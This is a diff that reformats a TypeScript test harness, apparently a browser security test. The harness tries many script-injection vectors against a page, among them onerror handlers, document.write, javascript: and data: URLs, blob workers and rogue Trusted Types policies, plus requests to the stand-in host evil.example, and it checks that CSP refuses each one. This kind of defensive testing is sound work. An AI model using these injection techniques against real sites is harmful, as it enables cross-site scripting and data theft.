@@ -34,18 +34,23 @@ export const attacks = (page: Page): Promise<Attack[]> =>
       'script with innerText': () => put('script', (script) => (script.innerText = code)),
       'innerHTML with a handler': () => (box().innerHTML = `<img src="/none.png" onerror='${code}'>`),
       'outerHTML with a handler': () => (box().outerHTML = `<img src="/none.png" onerror='${code}'>`),
-      'insertAdjacentHTML': () => box().insertAdjacentHTML('beforeend', `<img src="/none.png" onerror='${code}'>`),
+      insertAdjacentHTML: () => box().insertAdjacentHTML('beforeend', `<img src="/none.png" onerror='${code}'>`),
       'document.write': () => document.write(`<script>${code}</script>`),
-      'createContextualFragment': () => document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)),
-      'DOMParser, then adopted': () => document.body.append(new DOMParser().parseFromString(`<script>${code}</script>`, 'text/html').scripts[0]!),
-      'srcdoc of a frame': () => put('iframe', (frame) => (frame.srcdoc = `<script>parent.${code.replace('window.', '')}</script>`)),
-      'frame of a javascript: address': () => put('iframe', (frame) => (frame.src = `javascript:parent.${code.replace('window.', '')}`)),
+      createContextualFragment: () =>
+        document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)),
+      'DOMParser, then adopted': () =>
+        document.body.append(new DOMParser().parseFromString(`<script>${code}</script>`, 'text/html').scripts[0]!),
+      'srcdoc of a frame': () =>
+        put('iframe', (frame) => (frame.srcdoc = `<script>parent.${code.replace('window.', '')}</script>`)),
+      'frame of a javascript: address': () =>
+        put('iframe', (frame) => (frame.src = `javascript:parent.${code.replace('window.', '')}`)),
       'javascript: link': () => put('a', (link) => (link.href = `javascript:${code}`)).click(),
       'handler by attribute': () => put('button', (button) => button.setAttribute('onclick', code)).click(),
       'script from elsewhere': () => put('script', (script) => (script.src = foreign)),
       'script from elsewhere by attribute': () => put('script', (script) => script.setAttribute('src', foreign)),
       'script of data:': () => put('script', (script) => (script.src = `data:text/javascript,${code}`)),
-      'script of blob:': () => put('script', (script) => (script.src = URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))),
+      'script of blob:': () =>
+        put('script', (script) => (script.src = URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))),
       'script from the uploads': () => put('script', (script) => (script.src = '/uploads/x.js')),
       'script from an answer of the API': () => put('script', (script) => (script.src = '/api/x')),
       'script of no known release': () => put('script', (script) => (script.src = '/remotes/mf-evil/1/x.js')),
@@ -54,9 +59,19 @@ export const attacks = (page: Page): Promise<Attack[]> =>
       'import of data:': () => import(/* @vite-ignore */ `data:text/javascript,${code}` as string),
       'worker of blob:': () => new Worker(URL.createObjectURL(new Blob([code]))),
       'worker of data:': () => new Worker(`data:text/javascript,${code}`),
-      'a policy of one’s own': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
-      'a second default policy': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('default', { createScript: (text: string) => text }),
-      'stylesheet from elsewhere': () => put('link', (link) => { link.rel = 'stylesheet'; link.href = 'https://evil.example/x.css' }),
+      'a policy of one’s own': () =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+        ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
+      'a second default policy': () =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+        ).trustedTypes.createPolicy('default', { createScript: (text: string) => text }),
+      'stylesheet from elsewhere': () =>
+        put('link', (link) => {
+          link.rel = 'stylesheet'
+          link.href = 'https://evil.example/x.css'
+        }),
       'inline style element': () => put('style', (style) => (style.textContent = 'body { --stolen: 1 }')),
       'picture from elsewhere': () => put('img', (image) => (image.src = 'https://evil.example/x.png')),
       'call to elsewhere': () => fetch('https://evil.example/x'),
@@ -79,7 +94,9 @@ export const attacks = (page: Page): Promise<Attack[]> =>
       const told = violations.slice(before)
       const ran = target.stolen === 'yes' || getComputedStyle(document.body).getPropertyValue('--stolen') === '1'
       // Of a script whose text was put in as a node the browser says in its console alone that it will not run.
-      const how = [thrown, ...new Set(told)].filter(Boolean).join(', ') || (name === 'script with a text node' && !ran ? 'not run' : '')
+      const how =
+        [thrown, ...new Set(told)].filter(Boolean).join(', ') ||
+        (name === 'script with a text node' && !ran ? 'not run' : '')
       results.push({ name, refused: !ran && how !== '', how })
       delete target.stolen
     }
